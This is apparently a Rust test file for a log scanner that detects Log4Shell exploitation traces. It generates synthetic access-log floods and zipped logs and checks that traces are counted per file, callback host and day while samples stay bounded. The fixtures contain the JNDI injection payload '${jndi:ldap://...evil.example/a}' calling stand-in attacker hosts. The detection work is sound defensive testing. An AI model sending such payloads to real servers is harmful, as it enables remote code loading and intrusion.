//! A flood of attack lines (issue 11 item 2): every trace is counted per file, callback
//! host and day, with the first and last occurrence, while the sample of traces and the
//! document stay the same size whatever the number of lines.

use praxcheck_logscan::{Options, scan_paths};
use praxcheck_model::{
    Document, EvidenceLevel, Inventory, MAX_LOG_SAMPLE, MAX_SUMMARY_HOSTS, timestamp_day,
};

use crate::support::write;

/// A web server log of `n` attack lines over 8 callback hosts and 4 days, with one
/// executed lookup (a stack frame) every 100 lines; plus a distinct host every 10 lines.
fn flood(n: u64, distinct_hosts: bool) -> Vec<u8> {
    let mut s = String::with_capacity(usize::try_from(n).unwrap() * 90);
    for i in 0..n {
        let day = 11 + (i * 4 / n);
        let host = if distinct_hosts && i % 10 == 0 {
            format!("x{i}.evil.example")
        } else {
            format!("h{}.evil.example", i % 8)
        };
        s.push_str(&format!(
            "203.0.113.{} - - [{day}/Dec/2021:10:{:02}:{:02} +0100] \"GET /?q=${{jndi:ldap://{host}/a}} HTTP/1.1\" 404 0\n",
            i % 250,
            (i / 60) % 60,
            i % 60
        ));
        if i % 100 == 99 {
            s.push_str(
                "\tat org.apache.logging.log4j.core.lookup.JndiLookup.lookup(JndiLookup.java:56)\n",
            );
        }
    }
    s.into_bytes()
}

fn doc_of(scan: praxcheck_logscan::LogScan) -> Document {
    let mut d = Document::new(
        praxcheck_model::ScanInfo::default(),
        praxcheck_model::AdvisorySetRef::default(),
    );
    d.absorb(praxcheck_model::Collect::into_contribution(scan));
    d.canonicalize();
    d
}

#[test]
fn a_flood_is_counted_completely_and_sampled_boundedly() {
    let dir = tempfile::tempdir().unwrap();
    let n = 200_000u64;
    let a = write(dir.path(), "access.log", &flood(n, false));
    let b = write(dir.path(), "other.log", &flood(1000, false));
    let s = scan_paths(&[a.clone(), b.clone()], &Options::default());
    assert!(s.unreadable.is_empty(), "{:?}", s.unreadable);
    let sum = &s.summary;
    assert_eq!(sum.traces, n + 1000);
    assert_eq!(sum.executed, n / 100 + 10);
    // Per file, with the first and last occurrence.
    assert_eq!(sum.files.len(), 2);
    let fa = sum
        .files
        .iter()
        .find(|f| f.location.display.ends_with("access.log"))
        .unwrap();
    assert_eq!(fa.traces, n);
    assert_eq!(fa.executed, n / 100);
    assert_eq!(fa.first_line, 1);
    assert_eq!(fa.last_line, n + n / 100 - 1);
    assert_eq!(
        fa.first_timestamp.as_deref(),
        Some("11/Dec/2021:10:00:00 +0100")
    );
    assert!(
        fa.last_timestamp
            .as_deref()
            .unwrap()
            .starts_with("14/Dec/2021")
    );
    // Per callback host.
    assert_eq!(sum.hosts.len(), 8);
    assert_eq!(sum.hosts.iter().map(|h| h.traces).sum::<u64>(), n + 1000);
    assert_eq!(sum.hosts[0].host, "h0.evil.example");
    assert_eq!(sum.hosts[0].traces, n / 8 + 125);
    // Per day.
    let days: Vec<(&str, u64)> = sum
        .days
        .iter()
        .map(|d| (d.day.as_str(), d.traces))
        .collect();
    assert_eq!(
        days,
        vec![
            ("2021-12-11", n / 4 + 250),
            ("2021-12-12", n / 4 + 250),
            ("2021-12-13", n / 4 + 250),
            ("2021-12-14", n / 4 + 250)
        ]
    );
    // The sample: bounded, the executed traces kept first, both files present.
    assert!(s.evidence.len() <= MAX_LOG_SAMPLE, "{}", s.evidence.len());
    assert!(
        s.evidence
            .iter()
            .filter(|e| e.level == EvidenceLevel::LookupExecuted)
            .count()
            >= praxcheck_logscan::input::SAMPLE_EXECUTED
    );
    assert!(
        s.evidence
            .iter()
            .any(|e| e.location.display.ends_with("other.log"))
    );
}

#[test]
fn the_document_does_not_grow_with_the_flood() {
    let dir = tempfile::tempdir().unwrap();
    let small = write(dir.path(), "small.log", &flood(50_000, true));
    let large = write(dir.path(), "large.log", &flood(200_000, true));
    let ds = serde_json::to_string(&doc_of(scan_paths(&[small], &Options::default()))).unwrap();
    let dl = serde_json::to_string(&doc_of(scan_paths(&[large], &Options::default()))).unwrap();
    // Twenty thousand distinct hosts: the host list is capped, the rest counted.
    let d: Document = serde_json::from_str(&dl).unwrap();
    let sum = d.inventory.log_summary.as_ref().unwrap();
    assert_eq!(sum.traces, 200_000);
    assert_eq!(sum.hosts.len(), MAX_SUMMARY_HOSTS);
    assert_eq!(
        sum.hosts.iter().map(|h| h.traces).sum::<u64>() + sum.traces_of_unlisted_hosts,
        200_000
    );
    // Four times the lines (the sample is full in both), the same size within a few
    // percent (longer numbers only).
    assert!(
        dl.len() < ds.len() + ds.len() / 10,
        "small {} bytes, large {} bytes",
        ds.len(),
        dl.len()
    );
    assert!(dl.len() < 2 << 20, "{} bytes", dl.len());
}

#[test]
fn many_archive_entries_with_traces_keep_the_lists_capped() {
    let dir = tempfile::tempdir().unwrap();
    let line: &[u8] = b"2021-12-11 10:00:00 GET ${jndi:ldap://evil.example/a}\n";
    let names: Vec<String> = (0..1500).map(|i| format!("app-{i:04}.log")).collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), line)).collect();
    let p = write(dir.path(), "logs.zip", &crate::support::zip(&entries));
    let s = scan_paths(&[p], &Options::default());
    assert_eq!(s.summary.traces, 1500);
    assert_eq!(s.summary.files.len(), praxcheck_model::MAX_SUMMARY_FILES);
    assert_eq!(s.summary.traces_in_unlisted_files, 500);
    assert!(s.evidence.len() <= MAX_LOG_SAMPLE);
}

#[test]
fn documents_without_a_summary_are_counted_from_their_evidence() {
    let dir = tempfile::tempdir().unwrap();
    let p = write(dir.path(), "a.log", &flood(50, false));
    let d = doc_of(scan_paths(&[p], &Options::default()));
    let mut json: serde_json::Value = serde_json::to_value(&d).unwrap();
    json["inventory"]
        .as_object_mut()
        .unwrap()
        .remove("log_summary");
    let old: Document = serde_json::from_value(json).unwrap();
    assert!(old.inventory.log_summary.is_none());
    assert_eq!(old.inventory.log_counts(), d.inventory.log_counts());
    // Absorbing an old part into a new one adds its counts.
    let mut inv = d.inventory.clone();
    inv.absorb(Inventory {
        log_evidence: old.inventory.log_evidence.clone(),
        ..Inventory::default()
    });
    assert_eq!(inv.log_counts().traces, 100);
}

#[test]
fn days_come_from_every_dated_timestamp_form() {
    for (ts, day) in [
        ("2021-12-11T10:00:00.123Z", Some("2021-12-11")),
        ("2021/12/11 10:00:00", Some("2021-12-11")),
        ("11-Dec-2021 10:00:00.123", Some("2021-12-11")),
        ("11.12.2021 10:00:00", Some("2021-12-11")),
        ("11/Dec/2021:10:00:00 +0100", Some("2021-12-11")),
        ("Dec 11 10:00:00", None),
        ("10:00:00.123", None),
        ("2021-13-11", None),
        ("99.99.2021", None),
    ] {
        assert_eq!(timestamp_day(ts).as_deref(), day, "{ts}");
    }
}

#[test]
fn an_archive_of_many_unreadable_entries_lists_a_bounded_number() {
    let dir = tempfile::tempdir().unwrap();
    let bin: Vec<u8> = (0..4096u32).map(|i| (i % 7) as u8).collect();
    let names: Vec<String> = (0..1100).map(|i| format!("b-{i:04}.log")).collect();
    let entries: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &bin[..])).collect();
    let p = write(dir.path(), "blobs.zip", &crate::support::zip(&entries));
    let s = scan_paths(&[p], &Options::default());
    let max = praxcheck_logscan::input::MAX_UNREADABLE_PER_FILE;
    assert_eq!(s.unreadable.len(), max + 1);
    let note = s
        .unreadable
        .iter()
        .find(|u| u.location.display.ends_with("blobs.zip"))
        .unwrap();
    assert!(
        note.detail.starts_with("100 further entries"),
        "{}",
        note.detail
    );
    // Every skipped entry is still counted.
    assert_eq!(s.sources[0].files_skipped, 1100);
}
